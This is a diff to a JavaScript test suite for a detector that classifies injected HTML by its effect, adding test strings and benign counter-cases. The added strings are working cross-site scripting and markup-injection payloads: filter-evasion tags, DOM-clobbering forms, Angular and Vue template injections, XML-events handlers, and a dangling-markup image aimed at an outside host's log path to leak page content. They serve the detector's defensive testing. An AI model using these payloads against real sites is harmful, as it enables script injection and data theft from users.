@@ -63,6 +63,18 @@ describe('what injected markup does', () => {
     ["x' onmouseover='prompt(1)", MarkupEffect.AttributeBreakout],
     ['</textarea>', MarkupEffect.RawTextBreakout],
     ['<b>bold</b>', MarkupEffect.Markup],
+    ['<img src=x', MarkupEffect.Markup],
+    ['<img/src=1', MarkupEffect.EvasiveSyntax],
+    ['<img src=`x`>', MarkupEffect.EvasiveSyntax],
+    ['<body onload!#$%&()*~+-_.,:;?@[/|\\]^`=go()>', MarkupEffect.EvasiveSyntax],
+    ['<img name=getElementById>', MarkupEffect.DomClobbering],
+    ['<form id=x><input name=attributes></form>', MarkupEffect.DomClobbering],
+    ["<img src='//203.0.113.7/log?", MarkupEffect.DanglingMarkup],
+    ['<x xmlns:ev="http://www.w3.org/2001/xml-events" ev:event="load" ev:handler="#h"/>', MarkupEffect.EventHandler],
+    ["<input ng-focus=$event.view.alert('x') autofocus>", MarkupEffect.EventHandler],
+    ['<p v-html="_c.constructor(\'alert(1)\')()"></p>', MarkupEffect.EventHandler],
+    ['<x @click="window.open(1)">', MarkupEffect.EventHandler],
+    ['<svg><handler xmlns:ev="http://www.w3.org/2001/xml-events" ev:event="load">go()</handler></svg>', MarkupEffect.EventHandler],
   ])('%j', (text, effect) => {
     expect(markupEffects(text.toLowerCase()) & effect).toBe(effect);
   });
@@ -79,6 +91,22 @@ describe('what injected markup does', () => {
       'I <3 you, see you at 5>4',
     ]) {
       expect(runsScript(text)).toBe(false);
+    }
+  });
+
+  it('reads no intent into ordinary markup, paths and form fields', () => {
+    const intent = MarkupEffect.EvasiveSyntax | MarkupEffect.DomClobbering | MarkupEffect.DanglingMarkup;
+    for (const text of [
+      '/api/v1/items/h2<h1/details',
+      '<br/><img src="https://cdn.example.com/a.png"/>',
+      '<input name="location" value="Berlin"><input name="cookie">',
+      '<a href="https://example.com/?q=1">link</a>',
+      '<img src="//cdn.example.com/a.png" alt="a">',
+      '<event:handler>',
+      '<button ng-click="save()">',
+      '<a :href="link" @click="toggle()">',
+    ]) {
+      expect(markupEffects(text.toLowerCase()) & (intent | SCRIPT_EFFECTS)).toBe(0);
     }
   });
 
